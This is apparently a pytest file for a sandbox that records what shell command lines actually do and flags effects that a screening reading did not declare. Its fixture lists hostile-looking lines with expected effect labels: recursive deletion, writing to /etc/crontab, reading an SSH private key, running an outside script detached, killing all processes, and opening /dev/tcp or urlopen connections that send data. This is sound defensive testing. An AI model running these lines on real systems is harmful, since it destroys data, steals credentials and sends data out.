"""The container sees what a command line does, and the judge says what was not said of it."""

import pytest

from hub.contract.effects import Effect
from hub.screening.commands.reading import CommandReading
from tests.hostile.executed.grammar import Built, Grammar, Line
from tests.hostile.executed.judging import facts, surprise
from tests.hostile.executed.sandbox import run_lines

DONE = {
    "ls": set(),
    "cat README.md": set(),
    "rm README.md": {"deletes"},
    "X=$(rm -rf src) true": {"deletes"},
    "mv README.md /outside/": {"moves out", "writes outside"},
    "mv README.md other.md": {"writes inside"},
    "echo x > notes.txt": {"writes inside"},
    "echo x > .git/hooks/pre-commit": {"writes rules"},
    "echo x > ../new": {"writes outside"},
    "echo x >> /etc/crontab": {"writes outside"},
    "echo x > /tmp/new": {"writes scratch"},
    "ip link set lo down; mount -t tmpfs x src": set(),
    "chmod 777 src": {"changes rights"},
    "cat ../diary.txt": {"reads outside"},
    "cat ~/.ssh/id_ed25519": {"reads outside", "reads secrets"},
    "./evil.sh": {"runs a program of the project"},
    "make": {"runs a program of the project"},
    "/outside/evil.sh": {"runs a program from outside", "reads outside"},
    "(setsid /outside/evil.sh &)": {"runs a program from outside", "reads outside"},
    "kill -9 -1": {"ends programs"},
    "exec 3<>/dev/tcp/203.0.113.7/80": {"sends"},
    "getent hosts x.example": {"looks away"},
    "python3 -c \"import urllib.request as u; u.urlopen('http://x.example/')\"": {"looks away"},
    "python3 -c \"import urllib.request as u; u.urlopen('http://x.example/?k=1')\"": {"looks away", "sends"},
    "python3 -c \"import urllib.request as u; u.urlopen('http://x.example/', b'k')\"": {"looks away", "sends"},
}


@pytest.mark.slow
def test_what_lines_do_is_seen_and_each_finds_everything_as_it_was() -> None:
    lines = [*DONE, *reversed(DONE)]
    seen = run_lines(lines)

    assert {line: {kind for kind, _ in facts(one)} for line, one in zip(lines, seen, strict=True)} == DONE
    assert {line: {kind for kind, _ in facts(one)} for line, one in zip(DONE, seen, strict=False)} == DONE


@pytest.mark.slow
def test_what_was_not_said_is_a_surprise_and_what_was_said_is_none() -> None:
    line = Line(text="rm README.md", built=Built.OTHER)
    (seen,) = run_lines([line.text])
    reads = CommandReading(effects=(Effect.READS,), understood=True)
    deletes = CommandReading(effects=(Effect.DELETES,), understood=True)

    found = surprise(line, reads, seen)

    assert found is not None
    assert found.what == ("deletes: /home/me/shop/README.md",)
    assert found.is_silent
    assert surprise(line, deletes, seen) is None
    assert surprise(line, CommandReading(effects=(Effect.READS,)), seen) is None, "what is not understood is asked"


@pytest.mark.slow
def test_project_code_is_said_of_what_was_built_to_run_it_alone() -> None:
    (seen,) = run_lines(["make"])
    runs = CommandReading(effects=(Effect.RUNS_PROJECT_CODE,), understood=True)

    assert surprise(Line(text="make", built=Built.PROJECT), runs, seen) is None
    assert surprise(Line(text="make", built=Built.HARMLESS), runs, seen) is not None


def test_the_same_seed_gives_the_same_lines_and_none_twice() -> None:
    lines = Grammar(7).lines(500)

    assert lines == Grammar(7).lines(500)
    assert len({line.text for line in lines}) == 500
    assert {line.built for line in lines} == set(Built)
